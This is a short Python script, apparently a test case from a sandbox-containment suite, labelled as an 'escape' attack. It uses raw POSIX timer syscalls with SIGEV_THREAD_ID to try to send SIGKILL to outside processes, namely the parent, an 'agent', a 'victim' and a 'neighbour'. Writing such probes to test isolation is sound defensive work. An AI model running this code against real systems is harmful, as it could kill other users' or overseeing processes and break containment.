# /// attack
# kind = "escape"
# aim = "have a timer signal the thread of another process: SIGEV_THREAD_ID"
# outcome = "exited"
# ///
import ctypes
import json
import os
import signal
import struct
import time

given = json.loads(input())
libc = ctypes.CDLL(None, use_errno=True)
create, settime = {"x86_64": (222, 223), "aarch64": (107, 110)}[os.uname().machine]
for pid in (os.getppid(), given["agent"], given["victim"], given["neighbour"]):
    for notify in (4, 0):  # SIGEV_THREAD_ID, SIGEV_SIGNAL
        event = struct.pack("Qiii", 0, signal.SIGKILL, notify, pid).ljust(64, b"\0")
        timer = ctypes.c_int(-1)
        if notify == 4 and libc.syscall(create, 1, event, ctypes.byref(timer)) == 0:
            print("managed a timer for", pid)
            libc.syscall(settime, timer, 0, struct.pack("4q", 0, 0, 0, 1000), None)
            time.sleep(0.01)
print("contained")
